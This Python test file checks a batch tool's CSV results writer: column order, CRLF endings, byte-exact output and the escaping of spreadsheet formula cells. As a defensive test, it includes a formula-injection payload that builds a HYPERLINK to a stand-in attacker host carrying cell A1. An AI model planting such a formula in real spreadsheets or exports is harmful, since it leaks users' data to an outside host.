"""The results file as written: the input's columns and order, formula escapes, CRLF, csv.writer's bytes; and the
same writer for the small files (export, verify)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from batcher.input.earlier import RESULT_COLUMNS
from batcher.input.loader import load_input
from batcher.models import BatchResult, Outcome
from batcher.plan.chunker import plan_batches
from batcher.plan.reconciler import reconcile
from batcher.results import writer as results_writer
from batcher.results.export_file import csv_text
from batcher.results.format import escape_formulas
from batcher.results.writer import write_results
from batcher.support.csvtext import FORMULA_PREFIXES
from tests.conftest import EVENT, TRACK, reg_id

WriteCsv = Callable[..., Path]


def test_results_file_keeps_input_columns_and_order_and_adds_result_columns(
    write_csv: WriteCsv, tmp_path: Path
) -> None:
    path = write_csv(
        [[EVENT, TRACK, reg_id(1), "x", 'Ann, "A"'], [EVENT, TRACK, "bad", "", "Bo"]],
        header=["Event ID", "Track ID", "Registration ID", "Registration Status", "Name"],
    )
    loaded = load_input(path, default_status="CANCELED")
    assert loaded.invalid_reason[0].startswith("unknown registration_status")
    rows = reconcile(loaded, plan_batches(loaded.groups, batch_size=100), [])
    out = tmp_path / "out.csv"
    write_results(out, loaded, rows)
    with out.open(newline="") as handle:
        records = list(csv.reader(handle))
    assert records[0] == [
        "Event ID",
        "Track ID",
        "Registration ID",
        "Registration Status",
        "Name",
        "outcome",
        "previous_status",
        "target_status",
        "http_status",
        "error",
        "attempts",
        "batch",
    ]
    assert records[1][:5] == [EVENT, TRACK, reg_id(1), "x", 'Ann, "A"']
    assert records[1][5] == Outcome.INVALID.value
    assert records[2][4:6] == ["Bo", "invalid"]
    assert len(records) == 3
    assert not list(tmp_path.glob(".out.csv.*"))  # no temporary file left behind


def test_formula_cells_from_the_input_and_from_the_server_get_a_leading_quote(tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    notes = ["=1+1", "+cmd", "-5", "@SUM(A1)", "\tx", "\rx", "safe", "a=b", ""]
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["event_id", "track_id", "registration_id", "=HYPERLINK(1)"])
        writer.writerows([[EVENT, TRACK, reg_id(n), note] for n, note in enumerate(notes)])
    loaded = load_input(path, default_status="CANCELED")
    server_says = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = reconcile(loaded, plan_batches(loaded.groups, batch_size=100), [BatchResult(1, 400, error=server_says)])
    out = tmp_path / "out.csv"
    write_results(out, loaded, rows)
    with out.open(newline="", encoding="utf-8") as handle:
        records = list(csv.reader(handle))
    assert records[0][3] == "'=HYPERLINK(1)"
    assert [record[3] for record in records[1:]] == [
        "'=1+1",
        "'+cmd",
        "'-5",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "safe",
        "a=b",
        "",
    ]
    error = records[0].index("error")
    assert {record[error] for record in records[1:]} == {"'" + server_says}
    assert loaded.values[3][0] == "=1+1"  # the loaded input itself is untouched


def test_results_use_crlf_and_quote_a_lone_carriage_return(write_csv: WriteCsv, tmp_path: Path) -> None:
    path = write_csv([[EVENT, TRACK, reg_id(1), "a\rb"]], header=["event_id", "track_id", "registration_id", "note"])
    loaded = load_input(path, default_status="CANCELED")
    out = tmp_path / "out.csv"
    write_results(out, loaded, reconcile(loaded, plan_batches(loaded.groups, batch_size=100), [BatchResult(1, 200)]))
    content = out.read_bytes()
    assert content.count(b"\r\n") == 2
    assert b'"a\rb"' in content
    assert load_input(out, default_status=None).values[3].tolist() == ["a\rb"]


# pieces that matter to a CSV writer or to a spreadsheet, and any other character
WRITER_CELL = st.lists(
    st.one_of(
        st.sampled_from([",", '"', "\r", "\n", "\r\n", "\t", "=", "+", "-", "@", "'", "é", " "]),
        st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
    ),
    max_size=6,
).map("".join)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(notes=st.lists(WRITER_CELL, min_size=1, max_size=12), slice_rows=st.sampled_from([1, 2, 5, 1 << 18]))
def test_results_file_is_byte_for_byte_what_csv_writer_writes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, notes: list[str], slice_rows: int
) -> None:
    monkeypatch.setattr(results_writer, "SLICE_ROWS", slice_rows)
    path = tmp_path / "in.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["event_id", "track_id", "registration_id", "note", "=sum"])
        writer.writerows([[EVENT, TRACK, reg_id(n), note, note[::-1]] for n, note in enumerate(notes)])
    loaded = load_input(path, default_status="CANCELED")
    rows = reconcile(loaded, plan_batches(loaded.groups, batch_size=2), [BatchResult(1, 400, error='=x,"y"\r')])
    written = tmp_path / "out.csv"
    expected = io.StringIO()
    writer = csv.writer(expected, lineterminator="\r\n")
    writer.writerow([*escape_formulas(np.array(loaded.header, dtype=object)).tolist(), *RESULT_COLUMNS])
    result_columns = [
        rows.outcome,
        rows.previous_status,
        rows.target_status,
        rows.http_status,
        rows.error,
        rows.attempts,
        rows.batch,
    ]
    for row in range(loaded.row_count):
        cells = [column[row] for column in loaded.values] + [column[row] for column in result_columns]
        cells[-4] = cells[-4] or ""  # http_status 0: blank
        cells[-1] = cells[-1] or ""  # batch 0: blank
        cells[-2] = cells[-2] if rows.batch[row] else ""  # attempts: blank outside a batch
        writer.writerow([_escape(str(cell)) for cell in cells])
    for values in (loaded.values, tuple(loaded.values)):  # as loaded, and as plain arrays built by hand
        write_results(written, replace(loaded, values=values), rows)
        assert written.read_bytes() == expected.getvalue().encode("utf-8")


def _escape(cell: str) -> str:
    # a formula prefix after any single quotes is escaped, so that reading takes exactly one quote off
    return "'" + cell if cell.lstrip("'").startswith(FORMULA_PREFIXES) else cell


@pytest.mark.parametrize(
    "cells", [["a", "b"], ["=1+1", "x,y"], ['say "hi"', "line\nbreak"], ["lone\rcr", ""], ["", ""]]
)
def test_the_small_files_are_written_by_the_same_writer_as_csv_writer_would(cells: list[str]) -> None:
    expected = io.StringIO()
    writer = csv.writer(expected, lineterminator="\r\n")
    writer.writerow(["h1", "h2"])
    writer.writerow([_escape(cell) for cell in cells])
    assert csv_text(["h1", "h2"], [[cell] for cell in cells]) == expected.getvalue()
